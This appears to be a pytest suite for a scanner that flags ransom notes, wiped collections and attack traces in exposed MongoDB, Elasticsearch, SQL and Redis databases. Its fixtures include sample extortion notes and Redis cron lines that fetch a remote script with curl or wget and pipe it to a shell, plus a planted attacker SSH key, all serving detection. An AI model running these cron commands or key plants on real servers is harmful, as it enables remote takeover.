"""Ransom notes and attack signs, on hand-made inspections in the style of the public ransom waves."""

from __future__ import annotations

import sys
import types
from typing import Any

import base58
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from leaksonar.assess import assess
from leaksonar.assess.ransom import (
    Strength,
    find_ransom,
    mine,
    name_strength,
    scan_ransom,
    valid_btc_address,
    valid_onion,
)
from leaksonar.model import Collection, Inspection, PiiHit, Sample, Software

P2PKH = "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"
P2SH = "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"
BECH32 = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
TAPROOT = "bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0"
ONION = "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion"

MONGO_2017 = (
    "Your Database is downloaded and backed up on our secured servers. To recover your lost data: Send "
    "0.2 BTC to our BitCoin Address and Contact us by eMail with your server IP Address and a Proof of "
    "Payment. Any eMail without your server IP Address and a Proof of Payment together will be ignored."
)
MONGO_2020 = (
    f"All your data is a backed up. You must pay 0.03 BTC to {BECH32} 48 hours for recover it. After 48 "
    "hours expiration we will leaked and exposed all your data. In case of refusal to pay, we will contact "
    "the General Data Protection Regulation, GDPR and notify them that you store user data in an open form. "
    "Contact us: restoredb@mailnesia.example"
)
ELASTIC_2020 = (
    f"Your indices have been downloaded and backed up on our servers. To restore your data send 0.05 BTC to "
    f"{P2SH} and write to es_restore@tutanota.example with your server IP. If you do not pay within 72 "
    "hours, all indices will be published."
)
MARIADB_NOTE = (
    f"Your DB has been dumped to our servers. To recover your database pay BTC 0.1 to {TAPROOT}. "
    f"Contact: support via {ONION} (Tor). Databases are deleted after 10 days."
)


def inspection(
    protocol: str,
    collections: list[Collection],
    samples: list[Sample] = (),  # type: ignore[assignment]
    *,
    auth: str = "none",
    software: Software | None = None,
    **counts: Any,
) -> Inspection:
    return Inspection(
        protocol,
        software,
        auth,  # type: ignore[arg-type]
        collections=tuple(collections),
        samples=tuple(samples),
        **counts,
    )


def sample(database: str, collection: str, *documents: dict[str, Any]) -> Sample:
    return Sample(database, collection, documents)


def redis(keys: dict[str, Any], rows: int | None = None) -> Inspection:
    """Redis database 0 holding `keys` (as the Redis inspector samples them)."""
    docs = [{"key": k, "type": "string", "value": v} for k, v in keys.items()]
    rows = len(keys) if rows is None else rows
    return inspection("redis", [Collection("0", "db0", rows)], [sample("0", "db0", *docs)], rows=rows)


# --- the addresses themselves ---------------------------------------------------------------------


@pytest.mark.parametrize("address", [P2PKH, P2SH, BECH32, TAPROOT, BECH32.upper()])
def test_valid_btc_addresses(address: str) -> None:
    assert valid_btc_address(address)


@pytest.mark.parametrize(
    "address",
    [
        P2PKH[:-1] + "t",  # one wrong character
        P2SH.replace("WpEZ", "WpEz"),
        BECH32[:-1] + "z",
        TAPROOT[:-1] + "1",
        base58.b58encode_check(bytes(20)).decode(),  # a valid checksum, but 0x00 + 19 bytes
        "mipcBbFg9gMiCh81Kj8tqqdgoZub1ZJRfn",  # testnet
        BECH32[:10] + BECH32[10:].upper(),  # mixed case
    ],
)
def test_invalid_btc_addresses(address: str) -> None:
    assert not valid_btc_address(address)


def test_onion_checksum() -> None:
    assert valid_onion(ONION)
    assert not valid_onion(ONION.replace("duckduckgogg", "duckduckgogh"))


def test_mine_extracts_validated_evidence() -> None:
    bad_onion = ONION[:10] + "x" + ONION[11:]
    text = f"pay 0.05 BTC to {P2PKH} or {P2PKH[:-1]}t, write to a@b.example or {ONION}, {bad_onion}"
    evidence = mine(text)
    assert evidence.btc_addresses == (P2PKH,)
    assert evidence.emails == ("a@b.example",)
    assert evidence.onion == (ONION,)
    assert evidence.amount_btc == 0.05


@pytest.mark.parametrize(
    ("text", "amount"),
    [
        ("send 10 BTC now", 10.0),
        ("BTC 0.1 to the wallet", 0.1),
        ("BTC: 0.25", 0.25),
        ("0,05 btc", 0.05),
        ("2 bitcoins", 2.0),
        (f"pay BTC {P2PKH}", None),  # the address's leading 1 is not an amount
        ("no money here", None),
    ],
)
def test_amounts(text: str, amount: float | None) -> None:
    assert mine(text).amount_btc == amount


# --- MongoDB / Elasticsearch / SQL notes ----------------------------------------------------------


def test_mongo_readme_note_2017_style() -> None:
    doc = {"_id": "5a1f", "content": MONGO_2017, "BitCoin": P2PKH, "eMail": "dbrestore@protonmail.example"}
    infected, notes = find_ransom(
        inspection("mongodb", [Collection("admin", "README", 1)], [sample("admin", "README", doc)])
    )
    assert infected
    (note,) = notes
    assert note.where == "collection README in database admin"
    assert note.btc_addresses == (P2PKH,)
    assert note.emails == ("dbrestore@protonmail.example",)
    assert note.amount_btc == 0.2
    assert note.excerpt.startswith("Your Database is downloaded and backed up")
    assert len(note.excerpt) <= 200 and note.excerpt.endswith("…")


def test_mongo_strong_name_2020_style_and_wipe() -> None:
    insp = inspection(
        "mongodb",
        [Collection("READ_ME_TO_RECOVER_YOUR_DATA", "README", 1), Collection("shop", "orders", 0)],
        [sample("READ_ME_TO_RECOVER_YOUR_DATA", "README", {"content": MONGO_2020})],
    )
    scan = scan_ransom(insp)
    (note,) = scan.notes
    assert note.where == "collection README in database READ_ME_TO_RECOVER_YOUR_DATA"
    assert note.btc_addresses == (BECH32,)
    assert note.amount_btc == 0.03
    assert note.emails == ("restoredb@mailnesia.example",)
    assert scan.wiped  # the only other collection is empty


def test_note_next_to_data_is_not_a_wipe() -> None:
    insp = inspection(
        "mongodb",
        [Collection("admin", "README", 1), Collection("shop", "customers", 25_000)],
        [sample("admin", "README", {"content": MONGO_2020})],
    )
    scan = scan_ransom(insp)
    assert scan.infected and not scan.wiped


def test_elasticsearch_read_me_index() -> None:
    insp = inspection(
        "elasticsearch",
        [Collection("", "read_me", 1), Collection("", ".kibana", 3)],
        [sample("", "read_me", {"message": ELASTIC_2020})],
    )
    scan = scan_ransom(insp)
    (note,) = scan.notes
    assert note.where == "index read_me"
    assert note.btc_addresses == (P2SH,)
    assert note.amount_btc == 0.05
    assert scan.wiped  # .kibana is a system index


def test_strong_name_without_text_is_still_a_note() -> None:
    infected, notes = find_ransom(inspection("mongodb", [Collection("test", "how_to_restore", 0)]))
    assert infected
    assert notes[0].where == "collection how_to_restore in database test"
    assert notes[0].excerpt == ""


def test_mariadb_recover_your_data_database() -> None:
    insp = inspection(
        "mysql",
        [Collection("RECOVER_YOUR_DATA", "RECOVER_YOUR_DATA", 1), Collection("crm", "contacts", 7040)],
        [sample("RECOVER_YOUR_DATA", "RECOVER_YOUR_DATA", {"id": "1", "content": MARIADB_NOTE})],
        software=Software("mariadb", "10.11.6"),
    )
    scan = scan_ransom(insp)
    (note,) = scan.notes
    assert note.where == "table RECOVER_YOUR_DATA in database RECOVER_YOUR_DATA"
    assert note.btc_addresses == (TAPROOT,)
    assert note.onion == (ONION,)
    assert note.amount_btc == 0.1
    assert not scan.wiped


def test_please_read_me_warning_table() -> None:
    """The MySQL wave's layout: database PLEASE_READ_ME, table WARNING, address and e-mail in columns."""
    row = {
        "id": "1",
        "warning": "To recover your lost Database and avoid leaking it: Send us 0.016 Bitcoin (BTC) to our "
        "Bitcoin address and contact us by Email with your Server IP or Domain name and a Proof of Payment.",
        "Bitcoin_Address": P2PKH,
        "Email": "backupsql@cock.example",
    }
    infected, notes = find_ransom(
        inspection(
            "mysql", [Collection("PLEASE_READ_ME", "WARNING", 1)], [sample("PLEASE_READ_ME", "WARNING", row)]
        )
    )
    assert infected
    assert notes[0].where == "table WARNING in database PLEASE_READ_ME"
    assert notes[0].btc_addresses == (P2PKH,) and notes[0].amount_btc == 0.016


@pytest.mark.parametrize("name", ["README", "READ__ME", "read_me", "Warning", "PLEASE-READ"])
def test_weak_name_with_note_text(name: str) -> None:
    infected, notes = find_ransom(
        inspection(
            "mongodb", [Collection("app", name, 1)], [sample("app", name, {"text": MONGO_2017 + P2PKH})]
        )
    )
    assert infected and notes[0].btc_addresses == (P2PKH,)


def test_weak_name_note_with_email_only() -> None:
    text = "Your database has been downloaded. To get it back contact us: dumper@onionmail.example"
    infected, _ = find_ransom(
        inspection("postgresql", [Collection("app", "readme", 1)], [sample("app", "readme", {"t": text})])
    )
    assert infected


def test_rows_collapsed_to_a_note() -> None:
    """A table emptied and left with one row holding the note: found by its text alone."""
    insp = inspection(
        "postgresql", [Collection("shop", "users", 1)], [sample("shop", "users", {"name": MONGO_2020})]
    )
    scan = scan_ransom(insp)
    assert scan.notes[0].where == "table users in database shop"
    assert scan.wiped


def test_invalid_address_in_note_is_dropped() -> None:
    text = MONGO_2017.replace("our BitCoin Address", P2PKH[:-1] + "t")
    _, notes = find_ransom(
        inspection(
            "mongodb",
            [Collection("db", "README_TO_RECOVER", 1)],
            [sample("db", "README_TO_RECOVER", {"c": text})],
        )
    )
    assert notes[0].btc_addresses == ()


def test_meow_wipe() -> None:
    insp = inspection(
        "elasticsearch",
        [
            Collection("", "x7pnzb4ahn-meow", 0),
            Collection("", "q2l9vbc04a-meow", 0),
            Collection("", ".tasks", 1),
        ],
    )
    scan = scan_ransom(insp)
    assert [s.kind for s in scan.signs] == ["meow", "meow"]
    assert scan.notes[0].where == "index x7pnzb4ahn-meow"
    assert scan.wiped


# --- Redis ------------------------------------------------------------------------------------------


CRON = {
    "backup1": "\n\n\n*/2 * * * * root curl -fsSL http://45.9.148.0/cleanfda/init.sh | sh\n\n",
    "backup2": "\n\n\n*/3 * * * * root wget -q -O- http://45.9.148.0/cleanfda/init.sh | sh\n\n",
    "backup3": "\n\n\n*/4 * * * * root curl -fsSL http://45.9.148.0/cleanfda/init.sh | bash\n\n",
    "backup4": "\n\n\n@reboot root python -c 'import urllib;exec(urllib.urlopen(\"http://x/y\").read())'\n\n",
}


def test_redis_cron_job_keys() -> None:
    scan = scan_ransom(redis(CRON))
    assert [s.kind for s in scan.signs] == ["cron"] * 4
    assert [n.where for n in scan.notes] == [f"key backup{i} in db 0" for i in range(1, 5)]
    assert scan.notes[2].excerpt == "*/4 * * * * root curl -fsSL http://45.9.148.0/cleanfda/init.sh | bash"
    assert scan.wiped  # a flushed database refilled with the cron keys only


def test_redis_attack_keys_among_data_are_no_wipe() -> None:
    scan = scan_ransom(redis({**CRON, "session:1": "abc"}, rows=50_000))
    assert scan.infected and not scan.wiped


def test_redis_ssh_key_plant() -> None:
    scan = scan_ransom(
        redis({"crackit": "\n\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 root@attacker\n\n\n"})
    )
    assert [s.kind for s in scan.signs] == ["ssh_key"]


def test_redis_readme_key_note() -> None:
    value = f"Your data is backed up on our servers. To restore your data send 0.06 BTC to {P2PKH}."
    scan = scan_ransom(redis({"README": value, "user:1": "x", "user:2": "y"}, rows=3))
    (note,) = scan.notes
    assert note.where == "key README in db 0" and note.btc_addresses == (P2PKH,)
    assert not scan.wiped


def test_clean_drops_note_keys_and_collections() -> None:
    insp = redis({"README": f"{MONGO_2017} {P2PKH}", "user:1": '{"phone": "13800138000"}'})
    (kept,) = scan_ransom(insp).clean(insp.samples)
    assert [d["key"] for d in kept.documents] == ["user:1"]
    mongo = inspection(
        "mongodb",
        [Collection("admin", "README", 1), Collection("app", "users", 3)],
        [sample("admin", "README", {"content": MONGO_2020}), sample("app", "users", {"name": "Li"})],
    )
    assert [s.collection for s in scan_ransom(mongo).clean(mongo.samples)] == ["users"]


# --- clean databases ---------------------------------------------------------------------------------


DOCS_README = (
    "Schema notes for the billing service. The payment table stores one row per invoice; send questions to "
    "dba@example.com. To restore a table from the nightly backup, run scripts/restore.sh and contact the "
    "on-call engineer. Bitcoin payments were removed in 2019."
)


@pytest.mark.parametrize(
    "insp",
    [
        pytest.param(
            inspection(
                "postgresql",
                [Collection("billing", "readme", 1)],
                [sample("billing", "readme", {"body": DOCS_README})],
            ),
            id="documentation-readme",
        ),
        pytest.param(
            inspection(
                "mysql",
                [Collection("app", "warnings", 3)],
                [
                    sample(
                        "app",
                        "warnings",
                        {
                            "level": "WARNING",
                            "message": "disk usage above 90% on /var; send alert to ops@example.com",
                        },
                        {"level": "WARNING", "message": "payment gateway timeout, retry scheduled"},
                    )
                ],
            ),
            id="warnings-log",
        ),
        pytest.param(
            inspection(
                "mongodb",
                [Collection("wallet", "transfers", 120_000)],
                [sample("wallet", "transfers", {"memo": f"send 0.5 BTC to {P2PKH}", "to": P2PKH})],
            ),
            id="crypto-app-large",
        ),
        pytest.param(
            inspection(
                "mongodb",
                [Collection("wallet", "payouts", 2)],
                [
                    sample(
                        "wallet",
                        "payouts",
                        {"memo": f"monthly payout 0.5 BTC to {P2PKH}, contact a@b.example"},
                    )
                ],
            ),
            id="crypto-app-small-no-threat",
        ),
        pytest.param(
            redis({"session:9": '{"user": 1}', "cron:report": "*/5 * * * * /usr/local/bin/report --daily"}),
            id="redis-normal-and-benign-cron",
        ),
        pytest.param(
            inspection("elasticsearch", [Collection("", "logs-2024.05", 9_000), Collection("", "meow", 1)]),
            id="es-normal",
        ),
        pytest.param(
            inspection("mongodb", [Collection("app", "note", 2)], [sample("app", "note", {"t": "buy milk"})]),
            id="note-collection",
        ),
    ],
)
def test_clean_databases_are_not_flagged(insp: Inspection) -> None:
    assert find_ransom(insp) == (False, ())


# --- hostile input ------------------------------------------------------------------------------------


_leaf = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=300), st.binary(max_size=300)
)
_value = st.recursive(
    _leaf,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=20), inner, max_size=4),
    max_leaves=30,
)


@settings(max_examples=150, deadline=None)
@given(
    protocol=st.sampled_from(["mongodb", "redis", "mysql", "elasticsearch", "etcd", "weird"]),
    names=st.lists(st.tuples(st.text(max_size=40), st.text(max_size=40)), max_size=5),
    rows=st.one_of(st.none(), st.integers(min_value=-5, max_value=10**12)),
    documents=st.lists(st.dictionaries(st.text(max_size=20), _value, max_size=5), max_size=4),
)
def test_odd_input_never_raises(
    protocol: str, names: list[tuple[str, str]], rows: int | None, documents: list[dict[str, Any]]
) -> None:
    insp = inspection(
        protocol,
        [Collection(db, name, rows) for db, name in names],
        [sample(db, name, *documents) for db, name in names],
        rows=rows,
    )
    scan = scan_ransom(insp)
    scan.clean(insp.samples)
    assert all(len(n.excerpt) <= 200 for n in scan.notes)


def test_huge_value_is_bounded() -> None:
    value = ("Your database has been downloaded. " + "A" * 2_000_000 + f" {P2PKH}") * 2
    name = "READ_ME_TO_RECOVER_YOUR_DATA"
    scan = scan_ransom(inspection("mongodb", [Collection("a", name, 1)], [sample("a", name, {"v": value})]))
    assert scan.infected  # by its name; the address lies past the bound
    assert scan.notes[0].btc_addresses == ()


# --- assess() wiring ----------------------------------------------------------------------------------


def test_assess_leaves_notes_out_of_pii(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[tuple[Sample, ...]] = []

    def detect(
        samples: tuple[Sample, ...],
    ) -> tuple[dict[str, PiiHit], dict[tuple[str, str], tuple[str, ...]]]:
        seen.append(samples)
        hit = PiiHit(5, 5, ("sfzh",), "3101**********123X")
        return {"national_id": hit}, {("app", "people"): ("national_id",)}

    monkeypatch.setitem(sys.modules, "leaksonar.assess.pii", types.SimpleNamespace(detect=detect))
    insp = inspection(
        "mongodb",
        [Collection("admin", "README", 1), Collection("app", "people", 40)],
        [sample("admin", "README", {"content": MONGO_2020}), sample("app", "people", {"sfzh": "x"})],
        software=Software("mongodb", "4.4.6"),
        databases=2,
        rows=41,
    )
    result = assess(insp)
    assert [s.collection for s in seen[0]] == ["people"]
    assert result.infected and result.notes[0].btc_addresses == (BECH32,)
    assert result.severity == "critical"  # attacked and holding personal data, though only 40 rows
    assert result.summary == (
        "MongoDB 4.4.6 without authentication: 2 databases, 2 collections, 41 documents; national IDs; "
        "RANSOM NOTE (1 BTC address, asks 0.03 BTC)"
    )


def test_schema_qualified_weak_name_counts_like_a_bare_one() -> None:
    assert name_strength("public.readme") == name_strength("readme") == Strength.WEAK
    assert name_strength("public.readme_history") == Strength.NONE


def test_publicly_disclosed_threat_of_the_2020_wave_scores() -> None:
    assert mine("In 48 hours, your data will be publicly disclosed and deleted.").threats == 1
